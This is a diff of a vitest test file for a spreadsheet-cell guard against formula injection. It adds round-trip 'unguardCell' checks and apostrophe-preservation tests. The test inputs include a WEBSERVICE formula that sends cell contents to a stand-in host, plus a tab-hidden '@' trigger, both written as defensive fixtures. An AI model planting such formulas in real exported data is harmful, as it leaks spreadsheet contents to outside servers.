@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { guardCell } from '../../src/text/guard-cell.ts'
+import { guardCell, unguardCell } from '../../src/text/guard-cell.ts'
 
 test.each([
   ['=WEBSERVICE("http://a/"&A1)', '\'=WEBSERVICE("http://a/"&A1)'],
@@ -16,6 +16,11 @@ test.each([
   ['a\t@x', "a\t'@x"],
 ])('no spreadsheet runs %j', (cell, guarded) => {
   expect(guardCell(cell)).toBe(guarded)
+  expect(unguardCell(guarded)).toBe(cell)
+})
+
+test.each(["'t Horntje", "Hawai'i; 'x", "it's = so"])('the apostrophes of %j are its own', (text) => {
+  expect(unguardCell(guardCell(text))).toBe(text)
 })
 
 test.each(['Prochlorococcus', 'a = b; c - d', '22.75° N', '', -2, 0, true, null])('%j stays as it is', (cell) => {
